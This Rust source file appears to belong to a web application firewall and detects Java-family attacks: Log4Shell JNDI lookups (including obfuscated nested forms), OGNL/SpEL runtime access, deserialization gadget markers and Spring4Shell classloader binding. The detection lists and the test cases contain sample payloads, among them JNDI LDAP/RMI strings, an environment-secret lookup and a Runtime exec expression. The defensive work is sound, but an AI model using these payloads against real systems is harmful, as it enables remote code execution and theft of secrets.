//! Java attack surface: Log4Shell lookups, expression languages (JSP EL, OGNL, SpEL, MVEL),
//! deserialization payloads and gadget chains, and Spring's class-loader binding.
//!
//! Owns, over a decoded value (raw for case-sensitive base64 magic, lowercased otherwise):
//!
//! | rule | family |
//! | --- | --- |
//! | `waf-java-700` | `${jndi:…}` after resolving nested obfuscating lookups (`${${lower:j}ndi:`, `${::-j}`) |
//! | `waf-java-701` | other Log4j lookups (`${env:`, `${sys:`, `${java:`, `${base64:` …) |
//! | `waf-java-702` | EL / OGNL / SpEL reaching the runtime (`T(java.lang.Runtime)`, `#_memberAccess`, `.getClass().forName(`) |
//! | `waf-java-703` | serialized objects (`rO0AB`, `aced0005`, .NET `AAEAAAD/////`), gadget classes, `@type`, YAML/pickle tags |
//! | `waf-java-704` | Spring4Shell `class.module.classLoader` parameter binding |
//!
//! Does not own: plain `${7*7}` expression probes (template injection, `ssti`).

use crate::find::ByteSet;
use crate::Strength;
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use std::sync::OnceLock;

/// Markers, with the rule and strength each means on its own.
const MARKERS: &[(&str, &str, Strength)] = &[
    // Code execution from an expression.
    ("java.lang.runtime", "waf-java-702", Strength::Medium),
    ("getruntime(", "waf-java-702", Strength::Strong),
    ("processbuilder", "waf-java-702", Strength::Medium),
    ("class.forname", "waf-java-702", Strength::Strong),
    (".forname(", "waf-java-702", Strength::Strong),
    ("getclass()", "waf-java-702", Strength::Medium),
    ("getclassloader", "waf-java-702", Strength::Strong),
    ("_memberaccess", "waf-java-702", Strength::Strong),
    ("ognlcontext", "waf-java-702", Strength::Strong),
    ("@java.lang.", "waf-java-702", Strength::Strong),
    ("t(java.", "waf-java-702", Strength::Strong),
    ("new java.", "waf-java-702", Strength::Medium),
    ("java.lang.system", "waf-java-702", Strength::Medium),
    ("scriptenginemanager", "waf-java-702", Strength::Strong),
    ("getenginebyname", "waf-java-702", Strength::Strong),
    ("getdeclaredmethod", "waf-java-702", Strength::Medium),
    ("getdeclaredconstructor", "waf-java-702", Strength::Medium),
    ("java.io.file", "waf-java-702", Strength::Medium),
    ("org.apache.commons.io", "waf-java-702", Strength::Medium),
    ("#context", "waf-java-702", Strength::Medium),
    ("facescontext", "waf-java-702", Strength::Medium),
    ("pagecontext", "waf-java-702", Strength::Medium),
    ("applicationscope", "waf-java-702", Strength::Medium),
    ("sessionscope", "waf-java-702", Strength::Medium),
    ("requestscope", "waf-java-702", Strength::Medium),
    ("java.net.url", "waf-java-702", Strength::Medium),
    ("java.net.socket", "waf-java-702", Strength::Strong),
    // Deserialization.
    ("aced0005", "waf-java-703", Strength::Strong),
    ("org.apache.commons.collections", "waf-java-703", Strength::Strong),
    ("invokertransformer", "waf-java-703", Strength::Strong),
    ("chainedtransformer", "waf-java-703", Strength::Strong),
    ("templatesimpl", "waf-java-703", Strength::Strong),
    ("jdbcrowsetimpl", "waf-java-703", Strength::Strong),
    ("ysoserial", "waf-java-703", Strength::Strong),
    ("badattributevalueexpexception", "waf-java-703", Strength::Strong),
    ("org.codehaus.groovy.runtime", "waf-java-703", Strength::Strong),
    ("com.mchange.v2.c3p0", "waf-java-703", Strength::Strong),
    (
        "org.springframework.beans.factory",
        "waf-java-703",
        Strength::Medium,
    ),
    ("java.util.priorityqueue", "waf-java-703", Strength::Medium),
    ("javax.management.", "waf-java-703", Strength::Medium),
    ("com.sun.org.apache", "waf-java-703", Strength::Strong),
    ("\"@type\"", "waf-java-703", Strength::Medium),
    ("objectdataprovider", "waf-java-703", Strength::Strong),
    ("system.diagnostics.process", "waf-java-703", Strength::Strong),
    ("typeconfusedelegate", "waf-java-703", Strength::Strong),
    ("system.windows.data", "waf-java-703", Strength::Strong),
    ("!!python/", "waf-java-703", Strength::Strong),
    ("!!javax.", "waf-java-703", Strength::Strong),
    ("!!java.", "waf-java-703", Strength::Strong),
    ("!ruby/object", "waf-java-703", Strength::Strong),
    ("!ruby/hash", "waf-java-703", Strength::Strong),
    ("c__builtin__\n", "waf-java-703", Strength::Strong),
    ("cos\nsystem", "waf-java-703", Strength::Strong),
    ("cposix\nsystem", "waf-java-703", Strength::Strong),
    ("csubprocess\n", "waf-java-703", Strength::Strong),
    ("class.module.classloader", "waf-java-704", Strength::Strong),
    ("class.classloader", "waf-java-704", Strength::Strong),
    ("class[module]", "waf-java-704", Strength::Strong),
    ("class['module']", "waf-java-704", Strength::Strong),
];

/// Log4j lookup prefixes other than `jndi:`.
const LOOKUPS: &[&str] = &[
    "env:",
    "sys:",
    "java:",
    "ctx:",
    "main:",
    "base64:",
    "bundle:",
    "k8s:",
    "docker:",
    "spring:",
    "log4j:",
    "web:",
    "jvmrunargs:",
    "date:",
    "map:",
    "sd:",
    "marker:",
    "event:",
    "lower:",
    "upper:",
    "::-",
    "hostname",
    "jndi:",
];

fn automaton() -> &'static AhoCorasick {
    static AC: OnceLock<AhoCorasick> = OnceLock::new();
    AC.get_or_init(|| {
        AhoCorasickBuilder::new()
            .match_kind(MatchKind::Standard)
            .build(MARKERS.iter().map(|m| m.0))
            .expect("static java markers build")
    })
}

/// Looks for Java-family attacks in `raw` (decoded) and `lower` (its lowercase).
pub(crate) fn detect_in(raw: &str, lower: &str, set: ByteSet) -> Option<(&'static str, Strength)> {
    let mut best: Option<(&'static str, Strength)> = None;
    let mut note = |id: &'static str, s: Strength| {
        if best.map_or(true, |b| s < b.1) {
            best = Some((id, s));
        }
    };
    // Base64 of Java / .NET serialization streams; raw Java stream magic.
    if set.has(b'r') && raw.contains("rO0AB") || set.has(b'a') && raw.contains("AAEAAAD/////") {
        note("waf-java-703", Strength::Strong);
    }
    if set.has(0x80) && raw.as_bytes().windows(2).any(|w| w == [0xac, 0xed]) {
        // Lossy UTF-8 turns the magic into U+FFFD; only a decoded byte slice keeps it.
        note("waf-java-703", Strength::Medium);
    }
    let b = lower.as_bytes();
    let delimited = set.has(b'{')
        && (contains(b, b"${") || contains(b, b"#{") || contains(b, b"%{") || contains(b, b"*{"));
    // Several markers are plain words (`processbuilder`, `ysoserial`): no byte gate here.
    for m in automaton().find_overlapping_iter(b) {
        let (_, id, s) = MARKERS[m.pattern().as_usize()];
        // An expression delimiter around runtime access is unambiguous.
        let s = if delimited && id == "waf-java-702" {
            Strength::Strong
        } else {
            s
        };
        note(id, s);
    }
    if delimited && set.has(b'$') {
        let resolved = resolve_lookups(lower);
        let r = resolved.as_bytes();
        if contains(r, b"${jndi:")
            || contains(r, b"jndi:ldap")
            || contains(r, b"jndi:rmi")
            || contains(r, b"jndi:dns")
        {
            note("waf-java-700", Strength::Strong);
        }
        for (at, _) in lower.match_indices("${") {
            let rest = &lower[at + 2..];
            let rest = rest.trim_start_matches("${");
            if LOOKUPS.iter().any(|l| rest.starts_with(l)) {
                note("waf-java-701", Strength::Medium);
            }
        }
    }
    if set.has(b'%') && contains(b, b"%{(#") || set.has(b'#') && contains(b, b"(#_=") {
        // Struts OGNL: `%{(#_='multipart/form-data')…}`.
        note("waf-java-702", Strength::Strong);
    }
    best
}

fn contains(h: &[u8], n: &[u8]) -> bool {
    crate::find::contains(h, n)
}

/// Replaces innermost Log4j lookups by what they evaluate to (`${lower:j}` → `j`,
/// `${env:x:-j}` → `j`, `${date:'j'}` → `j`), at most 64 times, leaving `${jndi:` intact.
fn resolve_lookups(s: &str) -> String {
    let mut cur = s.to_owned();
    for _ in 0..64 {
        let b = cur.as_bytes();
        let mut found = None;
        let mut i = 0;
        while let Some(off) = crate::find::find(&b[i..], b"${") {
            let start = i + off;
            let body = start + 2;
            match b[body..].iter().position(|&c| c == b'}' || c == b'$') {
                Some(p) if b[body + p] == b'}' => {
                    let inner = &cur[body..body + p];
                    if !inner.starts_with("jndi:") {
                        found = Some((start, body + p + 1, evaluate(inner)));
                        break;
                    }
                    i = body;
                }
                Some(p) => i = body + p,
                None => break,
            }
        }
        let Some((start, end, value)) = found else {
            break;
        };
        cur.replace_range(start..end, &value);
    }
    cur
}

fn evaluate(inner: &str) -> String {
    if let Some(p) = inner.rfind(":-") {
        return inner[p + 2..].to_owned();
    }
    for prefix in ["lower:", "upper:"] {
        if let Some(rest) = inner.strip_prefix(prefix) {
            return rest.to_owned();
        }
    }
    if let Some(rest) = inner.strip_prefix("date:") {
        return rest.trim_matches('\'').to_owned();
    }
    // An unknown lookup evaluates to itself in Log4j; drop it so it cannot split `jndi`.
    String::new()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(s: &str) -> Option<&'static str> {
        let lower = s.to_ascii_lowercase();
        detect_in(s, &lower, ByteSet::of(lower.as_bytes()))
            .filter(|h| h.1 != Strength::Weak)
            .map(|h| h.0)
    }

    #[test]
    fn detects_families() {
        assert_eq!(rule("${jndi:ldap://x.example/a}"), Some("waf-java-700"));
        assert_eq!(rule("${${lower:j}${upper:n}di:rmi://x/a}"), Some("waf-java-700"));
        assert_eq!(
            rule("${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"),
            Some("waf-java-700")
        );
        assert_eq!(
            rule("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}"),
            Some("waf-java-700")
        );
        assert_eq!(rule("${env:AWS_SECRET_ACCESS_KEY}"), Some("waf-java-701"));
        assert_eq!(
            rule("${T(java.lang.Runtime).getRuntime().exec('id')}"),
            Some("waf-java-702")
        );
        assert_eq!(
            rule("%{(#_='multipart/form-data').(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"),
            Some("waf-java-702")
        );
        assert_eq!(
            rule("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ"),
            Some("waf-java-703")
        );
        assert_eq!(
            rule("{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}"),
            Some("waf-java-703")
        );
        assert_eq!(
            rule("class.module.classLoader.resources.context.parent.pipeline.first.pattern"),
            Some("waf-java-704")
        );
    }

    #[test]
    fn leaves_prose_alone() {
        for ok in [
            "java tutorial for beginners",
            "price: ${amount}",
            "the runtime of the class",
            "#{name} template",
        ] {
            assert_eq!(rule(ok), None, "{ok}");
        }
    }
}
